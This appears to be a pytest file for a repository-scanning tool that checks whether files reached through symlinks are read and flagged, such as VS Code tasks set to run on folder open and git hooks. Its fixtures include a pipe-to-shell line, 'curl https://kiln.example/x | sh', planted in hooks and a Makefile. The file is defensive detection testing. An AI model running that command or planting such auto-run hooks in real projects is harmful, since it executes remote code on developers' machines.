"""What stands behind a link is read as if it stood there."""

import pytest

from knownhands.harvest.content.changed import LINK, Changed
from knownhands.harvest.content.links import UNKNOWN
from knownhands.harvest.content.read import read_contents

TASKS = b'{"tasks": [{"label": "a", "command": "node fire.js", "runOptions": {"runOn": "folderOpen"}}]}'
FETCHES = b"curl https://kiln.example/x | sh\n"


def added(path: str, body: bytes, mode: int = 0o100644) -> Changed:
    return Changed(path, "", mode, 0, None, body)


def link(path: str, target: str) -> Changed:
    return added(path, target.encode(), LINK)


def shown(*files: Changed) -> set[tuple[str, str]]:
    return {(sight.observation.path, sight.observation.capability) for sight in read_contents(files).sights}


@pytest.mark.parametrize(
    ("files", "path", "capability"),
    [
        (
            (link(".vscode/tasks.json", "../docs/c.json"), added("docs/c.json", TASKS)),
            ".vscode/tasks.json",
            "runs_on_open",
        ),
        ((link(".husky/pre-commit", "../assets/x"), added("assets/x", FETCHES)), ".husky/pre-commit", "fetch_and_run"),
        ((link(".husky", "assets"), added("assets/pre-commit", FETCHES)), ".husky/pre-commit", "fetch_and_run"),
        (
            (link("Makefile", "docs/a"), link("docs/a", "b"), added("docs/b", b"all:\n\t" + FETCHES)),
            "Makefile",
            "fetch_and_run",
        ),
    ],
    ids=["a file", "a hook", "a folder", "a link to a link"],
)
def test_what_is_behind_a_link_is_read(files: tuple[Changed, ...], path: str, capability: str) -> None:
    assert (path, capability) in shown(*files)


def test_a_link_where_nothing_runs_shows_nothing() -> None:
    assert not shown(link("docs/kiln.json", "c.json"), added("docs/c.json", TASKS))
    assert not shown(link("pots/kiln.json", "../docs/c.json"), added("docs/c.json", TASKS))


def test_a_link_to_what_the_change_does_not_hold_is_named() -> None:
    assert [gap.why for gap in read_contents([link(".vscode/tasks.json", "../docs/c.json")]).unread] == [UNKNOWN]


@pytest.mark.parametrize(("path", "target"), [("CLAUDE.md", "AGENTS.md"), (".claude/skills", "../.agents/skills")])
def test_a_link_for_another_agent_is_ordinary(path: str, target: str) -> None:
    contents = read_contents([link(path, target)])
    assert not contents.unread
    assert {sight.observation.capability for sight in contents.sights} <= {"touches_editor"}


def test_links_that_lead_round_are_survived() -> None:
    assert shown(link("Makefile", "kiln"), link("kiln", "Makefile"))
